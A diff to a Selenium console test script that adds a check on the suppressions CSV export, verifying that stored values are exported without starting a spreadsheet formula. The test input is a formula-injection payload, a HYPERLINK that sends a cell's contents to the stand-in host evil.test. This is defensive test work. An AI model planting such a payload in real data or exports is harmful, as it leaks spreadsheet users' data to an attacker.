@@ -5,7 +5,7 @@ with a message on the first check that fails.
 
 usage: console_test.py BASE_URL TOKEN DEFERRED_ID SCREENSHOT_DIR
 """
-import json, sys, time, urllib.request
+import csv, json, os, sys, tempfile, time, urllib.request
 
 from selenium import webdriver
 from selenium.common.exceptions import NoAlertPresentException, StaleElementReferenceException
@@ -82,6 +82,28 @@ try:
     check(HOSTILE in events, "the hostile subject is shown as text")
     check(len(driver.find_elements(By.CSS_SELECTOR, "#events img")) == 0, "no element made from the subject")
     check(no_alert(), "no script ran")
+
+    # Suppressions: Export CSV writes no cell a spreadsheet would run.
+    formula = '=HYPERLINK("http://evil.test/x?"&A2,"click")'
+    req = urllib.request.Request(base + "/api/v1/suppressions", method="POST",
+                                 data=json.dumps({"addr": "formula@dest.test", "reason": formula}).encode(),
+                                 headers={"Authorization": "Bearer " + token, "Content-Type": "application/json"})
+    urllib.request.urlopen(req).read()
+    downloads = tempfile.mkdtemp()
+    driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": downloads})
+    driver.get(base + "/console/#/suppressions")
+    wait.until(EC.element_to_be_clickable((By.ID, "export"))).click()
+    path = os.path.join(downloads, "suppressions.csv")
+    WebDriverWait(driver, 15).until(lambda d: os.path.exists(path) and os.path.getsize(path) > 0)
+    with open(path, newline="") as f:
+        rows = list(csv.reader(f))
+    cells = [c for r in rows for c in r]
+    check(any(formula in c for c in cells), "the reason is exported: %r" % rows)
+    check(not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells),
+          "no cell starts a formula: %r" % rows)
+    req = urllib.request.Request(base + "/api/v1/suppressions/formula@dest.test", method="DELETE",
+                                 headers={"Authorization": "Bearer " + token})
+    urllib.request.urlopen(req).read()
 
     # Suppressions: Remove lifts the address.
     driver.get(base + "/console/#/suppressions")
